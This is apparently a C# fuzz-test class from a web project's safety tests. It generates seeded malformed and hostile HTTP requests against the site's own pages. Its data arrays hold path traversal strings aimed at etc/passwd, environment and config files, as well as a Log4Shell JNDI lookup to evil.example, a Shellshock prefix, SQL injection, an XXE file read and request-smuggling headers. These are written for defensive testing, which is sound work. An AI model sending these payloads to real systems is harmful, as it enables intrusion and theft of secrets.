using System.Globalization;
using System.Text;
using WuxiPlenum.Tests.Safety.Injection;

namespace WuxiPlenum.Tests.Safety.Fuzz;

/// <summary>Requests as anyone on the internet may send them, of every kind in turn. The same seed and number give the same bytes.</summary>
internal sealed class HttpFuzzRequests(int seed)
{
    private static readonly string[] s_kinds = ["path", "traversal", "query", "method", "header", "cookie", "body", "range", "condition", "language and form", "malformed"];

    private static readonly string[] s_pages =
    [
        "/", "/en/", "/editions", "/editions/2023-12-28", "/topics", "/topics/innovation", "/people", "/pledges", "/figures", "/terms", "/tasks", "/search?q=发展", "/api", "/api/v1/topics", "/api/v1/search?q=发展",
        "/openapi/v1.json", "/latest.atom", "/pledges.ics", "/people.csv", "/editions/2023-12-28.epub", "/sitemap.xml", "/robots.txt", "/opensearch.xml", "/manifest.webmanifest", "/healthz", "/app.js", "/style.css",
        "/display.woff2", "/icon.svg", "/worker.js", "/prefs", "/offline", "/about", "/error/500", "/error/404", "/error/999",
    ];

    private static readonly string[] s_parts =
    [
        "..", ".", "...", "%2e%2e", "%2E%2e%2F", "..%2f", "..%5c", "..\\", "%c0%ae%c0%ae", "%252e%252e%252f", "..;", "....//", "%00", "%0a", "%0d%0a", "%09", "%20", "%7f", "%ff", "%fe%ff", "%e4%b8", "%u4e2d", "%", "%%", "%zz", "~", "*", ":", "::", "$",
        "a", "en", "api", "v1", "articles", "editions", "topics", "people", "terms", "s", "compare", "source", "cite.bib", "picture.png", "error", "0", "-1", "2023-12-28", "9999-99-99", ".json", ".md", ".git", ".env", "wp-admin", "index.php", "con", "%E4%B8%AD", "\u00e4\u00b8\u00ad", "😀",
    ];

    private static readonly string[] s_secrets = ["etc/passwd", "appsettings.json", "WuxiPlenum.Web.dll", "data/plenum.db", "plenum.db", "Program.cs", "web.config", "proc/self/environ", "WuxiPlenum.Web.staticwebassets.endpoints.json"];

    private static readonly string[] s_climbs = ["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..\\", "....//", "..;/", "%252e%252e/", "..%c0%af", "/", "//", "./", "%2f"];

    private static readonly string[] s_methods = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "GETT", "M-SEARCH", "X", "QUERY"];

    private static readonly string[] s_headers =
    [
        "Accept", "Accept-Encoding", "Accept-Language", "Accept-Charset", "Authorization", "Content-Type", "Content-Encoding", "Expect", "Forwarded", "From", "If-Match", "Max-Forwards", "Origin", "Prefer", "Purpose", "Referer", "Sec-Fetch-Site",
        "TE", "Trailer", "Upgrade", "User-Agent", "Via", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "X-HTTP-Method-Override", "X-Original-URL", "X-Rewrite-URL", "X-Request-Id", "traceparent", "Transfer-Encoding", "Content-Length",
    ];

    private static readonly string[] s_values =
    [
        "", "*", "*/*", "text/html", "application/json;q=0", "text/html;q=2", "a/b;c=\"d", "gzip, br;q=1.0, *;q=0", "en;q=NaN", "zh-CN,en;q=0.9", "../../x", "null", "0", "-1", "99999999999999999999", "http://evil.example/", "//", "evil.example", "%00", "\"", "\\", "{{7*7}}",
        "cross-site", "h2c", "websocket", "chunked", "identity", "100-continue", "127.0.0.1", "::1", "unknown", "1.2.3.4, 5.6.7.8", "https", "\u00ff\u00fe", "\t", "a=b; c=d", "x'; DROP TABLE x; --", "() { :; }; echo", "${jndi:ldap://evil.example/a}",
    ];

    private static readonly string[] s_malformed =
    [
        "", "\r\n\r\n", "GET\r\n\r\n", "GET /\r\n\r\n", "GET / HTTP/0.9\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", "GET / HTTP/2.0\r\nHost: x\r\n\r\n", "GET / HTTP/9.9\r\nHost: x\r\n\r\n", "GET  / HTTP/1.1\r\nHost: x\r\n\r\n", "GET / HTTP/1.1\nHost: x\n\n", "GET / HTTP/1.1\r\nHost : x\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x\r\n folded\r\n\r\n", "GET / HTTP/1.1\r\n: x\r\n\r\n", "GET / HTTP/1.1\r\nHost: x\r\nA\0: b\r\n\r\n", "GET / HTTP/1.1\r\nHost: x\r\nA: b\0\r\n\r\n", "GET http://evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n", "GET evil HTTP/1.1\r\nHost: x\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        "CONNECT evil.example:80 HTTP/1.1\r\nHost: x\r\n\r\n", "POST /prefs HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n", "POST /prefs HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab", "POST /prefs HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
        "POST /prefs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", "POST /prefs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n", "POST /prefs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003",
        "SSH-2.0-x\r\n", "HELO x\r\n", "\u0000\u0001\u0002\u0003", "GET /\u00ff HTTP/1.1\r\nHost: x\r\n\r\n", "GET /%zz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "GET /%00 HTTP/1.1\r\nHost: x\r\n\r\n", "GET / HTTP/1.1\r\nHost: a b\r\n\r\n", "GET / HTTP/1.1\r\nHost: [::\r\n\r\n", "GET / HTTP/1.1\r\nHost: x:99999999\r\nConnection: close\r\n\r\n",
    ];

    /// <summary>The kind of a request, and its bytes as Latin letters.</summary>
    public (string Kind, string Bytes) this[int number]
    {
        get
        {
            var random = new Random(unchecked((seed * 486187739) + (number * 16777619)));
            var kind = s_kinds[number % s_kinds.Length];
            return (kind, kind == "malformed" ? Malformed(random) : Request(kind, random));
        }
    }

    private static string Request(string kind, Random random)
    {
        var (method, address, body) = (random.Next(8) == 0 ? "HEAD" : "GET", Bytes(One(s_pages, random)), "");
        var headers = new StringBuilder();
        void Header(string name, string value) => headers.Append(CultureInfo.InvariantCulture, $"{name}: {Bytes(value.Replace('\r', ' ').Replace('\n', ' ').Replace('\0', ' '))}\r\n");
        switch (kind)
        {
            case "path":
                address = "/" + string.Join('/', Some(s_parts, random)) + (random.Next(20) == 0 ? new string('a', random.Next(90_000)) : "");
                break;
            case "traversal":
                address = One(["/", "/static/", "/articles/", "/editions/", "/api/v1/", "/en/", "/s/"], random) + string.Concat(Enumerable.Repeat(One(s_climbs, random), random.Next(1, 9))) + One(s_secrets, random);
                break;
            case "query":
                address = Bytes(One(AskedAddresses.Queries, random)).Split('?')[0] + "?" + string.Join(One(["&", "&", ";", "&&"], random), Enumerable.Range(0, random.Next(1, random.Next(20) == 0 ? 200 : 8)).Select(_ =>
                    One(["q", "page", "topic", "from", "to", "sort", "kind", "cursor", "limit", "part", "view", "", "a[]", "__proto__"], random) + "=" + Value(random)));
                break;
            case "method":
                method = One(s_methods, random);
                break;
            case "header":
                for (var count = random.Next(1, 8); count > 0; count--) Header(One(s_headers, random), random.Next(30) == 0 ? new string('x', random.Next(40_000)) : One(s_values, random));
                break;
            case "cookie":
                Header("Cookie", $"reading={Value(random)}; language={One(s_values, random)}; {One(s_values, random)}");
                break;
            case "body":
                (method, address, body) = (One(["POST", "POST", "PUT", "GET"], random), random.Next(3) == 0 ? address : "/prefs", Body(random, out var type));
                Header("Content-Type", type);
                Header("Content-Length", (body.Length + (random.Next(20) == 0 ? 5 : 0)).ToString(CultureInfo.InvariantCulture));
                Header("Sec-Fetch-Site", One(["same-origin", "none", "cross-site"], random));
                break;
            case "range":
                Header("Range", One(["bytes=0-0", "bytes=-1", "bytes=5-1", "bytes=0-99999999999999999999", "bytes=" + string.Join(',', Enumerable.Range(0, 500).Select(at => $"{at}-")), "bytes=a-b", "lines=1-2", "bytes=0-,0-,0-"], random));
                Header("If-Range", One(["\"x\"", "W/\"x\"", "Thu, 01 Jan 1970 00:00:00 GMT", "x"], random));
                break;
            case "condition":
                Header("If-None-Match", One(["*", "\"x\"", "W/\"x\"", "x", "\"", "\"a\", \"b", string.Join(',', Enumerable.Repeat("\"x\"", 900))], random));
                Header("If-Modified-Since", One(["Thu, 01 Jan 1970 00:00:00 GMT", "tomorrow", "Thu, 99 Jan 9999 99:99:99 GMT", "-1"], random));
                Header("If-Match", One(["*", "\"x\"", "x"], random));
                break;
            default:
                Header("Accept", One([.. s_values, "application/atom+xml", "text/markdown", "application/epub+zip", "application/json"], random));
                Header("Accept-Language", One(s_values, random));
                Header("Accept-Encoding", One(s_values, random));
                break;
        }

        return $"{method} {address} HTTP/1.1\r\nHost: {One(["localhost", "localhost", "evil.example", "127.0.0.1:80"], random)}\r\nConnection: close\r\n{headers}\r\n{body}";
    }

    private static string Body(Random random, out string type)
    {
        type = One(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7", "multipart/form-data; boundary=x", "multipart/form-data", "application/json", "text/xml", "x", ""], random);
        return One<Func<string>>(
        [
            () => $"fs={Value(random)}&back={Value(random)}&theme={Value(random)}", () => string.Join('&', Enumerable.Range(0, random.Next(2000)).Select(at => $"a{at}=b")), () => new string('a', random.Next(80_000)),
            () => "--x\r\nContent-Disposition: form-data; name=\"fs\"\r\n\r\n2\r\n--x--\r\n", () => "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x\"\r\n\r\n2\r\n", () => "{\"a\":" + new string('[', 5000), () => "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", () => "%", () => "=&=&=", () => "",
        ],
        random)();
    }

    private static string Malformed(Random random)
    {
        var request = One(s_malformed, random);
        return random.Next(3) > 0 ? request : Damaged(Request("header", random), random);
    }

    private static string Damaged(string request, Random random)
    {
        var bytes = request.ToCharArray();
        for (var count = random.Next(1, 6); count > 0; count--) bytes[random.Next(bytes.Length)] = (char)random.Next(256);
        return new string(bytes);
    }

    private static string Value(Random random) => random.Next(3) == 0 ? One(s_parts, random).Replace(" ", "+", StringComparison.Ordinal) is var part ? Bytes(part) : "" : Injections.Escape(One(One([.. Injections.All.Values], random), random));

    private static IEnumerable<string> Some(string[] parts, Random random) => Enumerable.Range(0, random.Next(1, 7)).Select(_ => Bytes(One(parts, random)));

    /// <summary>What is not ASCII as the bytes of its UTF-8, one letter each.</summary>
    private static string Bytes(string text) => Encoding.Latin1.GetString(Encoding.UTF8.GetBytes(text));

    private static T One<T>(IReadOnlyList<T> these, Random random) => these[random.Next(these.Count)];
}
